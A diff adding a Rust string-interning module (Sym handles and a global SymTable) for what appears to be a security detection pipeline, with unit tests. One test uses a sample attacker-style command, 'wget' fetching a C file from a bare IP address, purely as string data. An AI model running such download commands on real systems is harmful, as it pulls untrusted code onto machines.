@@ -1,0 +1,389 @@
+//! String interning for the record/alert hot path.
+//!
+//! The symbolize → filter → detect pipeline used to round-trip heap
+//! `String`s on every record: user names, hostnames, command lines, URIs.
+//! At production-scale replay volume (millions of records) the allocator
+//! becomes the bottleneck, not the detection math. This module provides the
+//! shared interning layer every record type builds on:
+//!
+//! - [`Sym`] — a `Copy` 32-bit handle to an interned string. Comparing,
+//!   hashing and moving a `Sym` never touches the heap; resolving one
+//!   (`as_str`, `Deref<Target = str>`) returns a `&'static str` backed by
+//!   the process-wide table.
+//! - [`SymTable`] — the append-only table itself. The process-wide
+//!   instance ([`global`]) is what `Sym::from`/[`intern`] use; its contents
+//!   can be snapshotted for reports ([`SymTable::snapshot`]).
+//!
+//! The symbol universe of a run is bounded (user population, host names,
+//! command palettes, alert symbols), so entries are leaked into `'static`
+//! storage once and never freed: resolution is lock-cheap (one uncontended
+//! read lock) and the returned `&'static str` can be held across threads.
+//!
+//! Interning cost is paid once per *distinct* string — generators pre-
+//! intern their palettes, so the per-record hot path only copies `u32`s.
+
+use std::borrow::Borrow;
+use std::collections::HashMap;
+use std::fmt;
+use std::hash::BuildHasherDefault;
+use std::ops::Deref;
+use std::sync::{OnceLock, RwLock};
+
+use crate::rng::FxHasher;
+
+/// A `Copy` handle to an interned string in the process-wide [`SymTable`].
+///
+/// `Sym` is the string type of every record field on the pipeline hot path.
+/// Equality and hashing operate on the 32-bit id (two `Sym`s from the same
+/// table are equal iff their strings are equal); ordering resolves and
+/// compares the underlying strings so sort-based reports keep their
+/// pre-interning order.
+#[derive(Clone, Copy, PartialEq, Eq, Hash, serde::Serialize, serde::Deserialize)]
+pub struct Sym(u32);
+
+impl Sym {
+    /// The interned empty string.
+    pub const EMPTY: Sym = Sym(0);
+
+    /// Intern `s` in the global table (idempotent).
+    #[inline]
+    pub fn new(s: &str) -> Sym {
+        global().intern(s)
+    }
+
+    /// The interned string. `&'static`: entries live for the process.
+    #[inline]
+    pub fn as_str(self) -> &'static str {
+        global().resolve(self)
+    }
+
+    /// Raw table id (stable within a process; assigned in intern order).
+    #[inline]
+    pub fn id(self) -> u32 {
+        self.0
+    }
+
+    /// Rebuild a handle from a raw id previously obtained via [`Sym::id`]
+    /// in this process. Resolving a fabricated id panics.
+    #[inline]
+    pub fn from_id(id: u32) -> Sym {
+        Sym(id)
+    }
+
+    /// Whether this symbol is the empty string.
+    #[inline]
+    pub fn is_empty(self) -> bool {
+        self.0 == 0
+    }
+}
+
+impl Default for Sym {
+    fn default() -> Self {
+        Sym::EMPTY
+    }
+}
+
+impl Deref for Sym {
+    type Target = str;
+
+    #[inline]
+    fn deref(&self) -> &'static str {
+        self.as_str()
+    }
+}
+
+impl AsRef<str> for Sym {
+    fn as_ref(&self) -> &str {
+        self.as_str()
+    }
+}
+
+impl Borrow<str> for Sym {
+    fn borrow(&self) -> &str {
+        self.as_str()
+    }
+}
+
+impl From<&str> for Sym {
+    #[inline]
+    fn from(s: &str) -> Sym {
+        Sym::new(s)
+    }
+}
+
+impl From<&String> for Sym {
+    #[inline]
+    fn from(s: &String) -> Sym {
+        Sym::new(s)
+    }
+}
+
+impl From<String> for Sym {
+    #[inline]
+    fn from(s: String) -> Sym {
+        Sym::new(&s)
+    }
+}
+
+impl PartialEq<str> for Sym {
+    fn eq(&self, other: &str) -> bool {
+        self.as_str() == other
+    }
+}
+
+impl PartialEq<&str> for Sym {
+    fn eq(&self, other: &&str) -> bool {
+        self.as_str() == *other
+    }
+}
+
+impl PartialEq<String> for Sym {
+    fn eq(&self, other: &String) -> bool {
+        self.as_str() == other.as_str()
+    }
+}
+
+impl PartialEq<Sym> for str {
+    fn eq(&self, other: &Sym) -> bool {
+        self == other.as_str()
+    }
+}
+
+impl PartialEq<Sym> for &str {
+    fn eq(&self, other: &Sym) -> bool {
+        *self == other.as_str()
+    }
+}
+
+impl PartialEq<Sym> for String {
+    fn eq(&self, other: &Sym) -> bool {
+        self.as_str() == other.as_str()
+    }
+}
+
+impl PartialOrd for Sym {
+    fn partial_cmp(&self, other: &Sym) -> Option<std::cmp::Ordering> {
+        Some(self.cmp(other))
+    }
+}
+
+impl Ord for Sym {
+    fn cmp(&self, other: &Sym) -> std::cmp::Ordering {
+        if self.0 == other.0 {
+            return std::cmp::Ordering::Equal;
+        }
+        self.as_str().cmp(other.as_str())
+    }
+}
+
+impl fmt::Display for Sym {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.write_str(self.as_str())
+    }
+}
+
+impl fmt::Debug for Sym {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        fmt::Debug::fmt(self.as_str(), f)
+    }
+}
+
+struct Inner {
+    map: HashMap<&'static str, u32, BuildHasherDefault<FxHasher>>,
+    strings: Vec<&'static str>,
+}
+
+/// An append-only string table: `&str → Sym` on insert, `Sym → &'static
+/// str` on lookup. Entries are leaked (the symbol universe of a run is
+/// bounded); both directions take one `RwLock` acquisition, and reads never
+/// block each other.
+///
+/// **Handles are table-scoped.** A [`Sym`] minted by [`SymTable::intern`]
+/// is an index into *that* table; every convenience on `Sym` itself
+/// (`as_str`, `Deref`, `Display`, `Debug`, string comparisons, `Ord`)
+/// resolves against the [`global`] table and will panic — or, worse,
+/// produce an unrelated string — for a handle from a private table. Use a
+/// private `SymTable` only as a scoped id↔string map, resolving through
+/// [`SymTable::resolve`] on the same instance; everything on the pipeline
+/// hot path goes through the global table via `Sym::new`/`From`.
+pub struct SymTable {
+    inner: RwLock<Inner>,
+}
+
+impl SymTable {
+    /// A fresh table with `""` pre-interned as [`Sym::EMPTY`].
+    pub fn new() -> SymTable {
+        let mut map: HashMap<&'static str, u32, BuildHasherDefault<FxHasher>> = HashMap::default();
+        map.insert("", 0);
+        SymTable {
+            inner: RwLock::new(Inner {
+                map,
+                strings: vec![""],
+            }),
+        }
+    }
+
+    /// Intern a string, returning its stable handle.
+    pub fn intern(&self, s: &str) -> Sym {
+        if let Some(&id) = self.inner.read().expect("sym table").map.get(s) {
+            return Sym(id);
+        }
+        let mut w = self.inner.write().expect("sym table");
+        if let Some(&id) = w.map.get(s) {
+            return Sym(id);
+        }
+        let leaked: &'static str = Box::leak(s.to_owned().into_boxed_str());
+        let id = u32::try_from(w.strings.len()).expect("symbol universe exceeds u32");
+        w.strings.push(leaked);
+        w.map.insert(leaked, id);
+        Sym(id)
+    }
+
+    /// Resolve a handle minted by **this** table (see the type-level note
+    /// on table scoping).
+    pub fn resolve(&self, sym: Sym) -> &'static str {
+        self.inner
+            .read()
+            .expect("sym table")
+            .strings
+            .get(sym.0 as usize)
+            .copied()
+            .unwrap_or_else(|| panic!("Sym({}) was not minted by this SymTable", sym.0))
+    }
+
+    /// Number of interned strings (including the empty string).
+    pub fn len(&self) -> usize {
+        self.inner.read().expect("sym table").strings.len()
+    }
+
+    pub fn is_empty(&self) -> bool {
+        false // "" is always present
+    }
+
+    /// A serializable `(id, string)` snapshot, in intern order — lets a
+    /// report or artifact embed the symbol universe it references.
+    pub fn snapshot(&self) -> Vec<(u32, String)> {
+        self.inner
+            .read()
+            .expect("sym table")
+            .strings
+            .iter()
+            .enumerate()
+            .map(|(i, s)| (i as u32, (*s).to_string()))
+            .collect()
+    }
+}
+
+impl Default for SymTable {
+    fn default() -> Self {
+        SymTable::new()
+    }
+}
+
+/// The process-wide table behind [`Sym`].
+pub fn global() -> &'static SymTable {
+    static TABLE: OnceLock<SymTable> = OnceLock::new();
+    TABLE.get_or_init(SymTable::new)
+}
+
+/// Intern into the global table (alias of [`Sym::new`]).
+#[inline]
+pub fn intern(s: &str) -> Sym {
+    Sym::new(s)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn intern_is_idempotent_and_copy() {
+        let a = Sym::new("alice");
+        let b = Sym::new("alice");
+        let c = Sym::new("bob");
+        assert_eq!(a, b);
+        assert_ne!(a, c);
+        assert_eq!(a.as_str(), "alice");
+        let copied = a; // Copy, not move
+        assert_eq!(a, copied);
+    }
+
+    #[test]
+    fn empty_sym_is_default() {
+        assert_eq!(Sym::default(), Sym::EMPTY);
+        assert_eq!(Sym::new(""), Sym::EMPTY);
+        assert!(Sym::EMPTY.is_empty());
+        assert!(!Sym::new("x").is_empty());
+    }
+
+    #[test]
+    fn string_like_ergonomics() {
+        let s = Sym::new("wget http://64.215.4.5/abs.c");
+        // Deref gives str methods.
+        assert!(s.starts_with("wget"));
+        assert!(s.contains("abs.c"));
+        // Mixed-type comparisons in both directions.
+        assert!(s == "wget http://64.215.4.5/abs.c");
+        assert!("wget http://64.215.4.5/abs.c" == s);
+        let owned = String::from("wget http://64.215.4.5/abs.c");
+        assert!(s == owned);
+        assert!(owned == s);
+        assert_eq!(format!("{s}"), "wget http://64.215.4.5/abs.c");
+        assert_eq!(format!("{s:?}"), "\"wget http://64.215.4.5/abs.c\"");
+    }
+
+    #[test]
+    fn ordering_follows_strings_not_ids() {
+        // Intern in reverse lexical order: ids disagree with the strings.
+        let z = Sym::new("zzz-order-test");
+        let a = Sym::new("aaa-order-test");
+        assert!(a < z, "Ord must compare strings");
+        let mut v = vec![z, a];
+        v.sort();
+        assert_eq!(v, vec![a, z]);
+    }
+
+    #[test]
+    fn from_impls_intern() {
+        let owned: Sym = String::from("owned-str").into();
+        let borrowed: Sym = "owned-str".into();
+        assert_eq!(owned, borrowed);
+    }
+
+    #[test]
+    fn private_table_snapshot() {
+        let t = SymTable::new();
+        let a = t.intern("one");
+        let b = t.intern("two");
+        assert_eq!(t.intern("one"), a);
+        assert_eq!(t.resolve(b), "two");
+        assert_eq!(t.len(), 3);
+        let snap = t.snapshot();
+        assert_eq!(snap[0], (0, String::new()));
+        assert_eq!(snap[1], (1, "one".to_string()));
+        assert_eq!(snap[2], (2, "two".to_string()));
+    }
+
+    #[test]
+    fn concurrent_intern_agrees() {
+        let handles: Vec<_> = (0..8)
+            .map(|i| {
+                std::thread::spawn(move || {
+                    let mut ids = Vec::new();
+                    for j in 0..64 {
+                        ids.push(Sym::new(&format!("concurrent-{}", (i + j) % 16)).id());
+                    }
+                    ids
+                })
+            })
+            .collect();
+        let all: Vec<Vec<u32>> = handles.into_iter().map(|h| h.join().unwrap()).collect();
+        // Every thread resolved each distinct string to the same id.
+        for j in 0..16 {
+            let expect = Sym::new(&format!("concurrent-{j}")).id();
+            for ids in &all {
+                assert!(ids.contains(&expect));
+            }
+        }
+    }
+}
